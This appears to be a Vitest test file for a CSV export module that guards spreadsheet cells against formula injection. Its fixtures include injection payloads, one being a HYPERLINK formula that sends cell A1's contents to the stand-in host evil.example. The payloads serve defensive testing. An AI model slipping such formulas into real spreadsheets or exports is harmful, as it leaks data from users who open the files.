import { parse as parseCsv } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { readSpreadsheetCell, spreadsheetCell, toCsv } from "~/lib/spreadsheet.ts";
import { tableToCsv } from "~/modules/reports/csv.server.ts";

const FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\n@x", "-5", "@", "＝1+1"];
const SAFE = ["Máy sấy lạnh", "'quoted'", "1250000", "a=b", "x-1", "", "'", "''", " x"];

describe("spreadsheetCell", () => {
  it("puts a quote before text a spreadsheet would run as a formula, and leaves other text alone", () => {
    for (const text of FORMULAS) expect(spreadsheetCell(text), JSON.stringify(text)).toBe(`'${text}`);
    for (const text of SAFE) expect(spreadsheetCell(text), JSON.stringify(text)).toBe(text);
  });

  it("writes numbers as numbers, negative ones too", () => {
    expect([spreadsheetCell(-5), spreadsheetCell(-0.25), spreadsheetCell(-9_007_199_254_740_993n), spreadsheetCell(null), spreadsheetCell(undefined)]).toEqual(["-5", "-0.25", "-9007199254740993", "", ""]);
  });

  it("is undone exactly by readSpreadsheetCell, quotes already in the text included", () => {
    const texts = [...FORMULAS, ...SAFE, ...FORMULAS.map((t) => `'${t}`), ...FORMULAS.map((t) => `''${t}`), "'\n'=x"];
    for (const text of texts) expect(readSpreadsheetCell(spreadsheetCell(text)), JSON.stringify(text)).toBe(text);
  });
});

describe("toCsv", () => {
  it("quotes guarded cells and line breaks, doubles quotes, CRLF between records, after a byte-order mark", () => {
    const csv = toCsv([["title", "price"], ['=HYPERLINK("http://evil.example/","x")', 5], ["-2+3", -5], ["hai\ndòng", 0]]);
    expect(csv).toBe('\uFEFFtitle,price\r\n"\'=HYPERLINK(""http://evil.example/"",""x"")",5\r\n"\'-2+3",-5\r\n"hai\ndòng",0\r\n');
    expect(parseCsv(csv.slice(1))).toEqual([["title", "price"], ['\'=HYPERLINK("http://evil.example/","x")', "5"], ["'-2+3", "-5"], ["hai\ndòng", "0"]]);
  });
});

describe("report tables as CSV", () => {
  it("guard text cells and write figures, negative money included, as numbers", () => {
    const csv = tableToCsv({
      id: "revenue",
      title: "Revenue",
      columns: [
        { label: "Purpose", kind: "text" },
        { label: "Net", kind: "money" },
        { label: "Change", kind: "percent" },
      ],
      rows: [
        { cells: ["@SUM(A1)", "-500000", -0.25] },
        { cells: ["-500000", "9007199254740993", null] },
      ],
    });
    expect(csv.split("\r\n")).toEqual(["\uFEFFPurpose,Net,Change", `"'@SUM(A1)",-500000,-0.25`, `"'-500000",9007199254740993,`, ""]);
  });
});
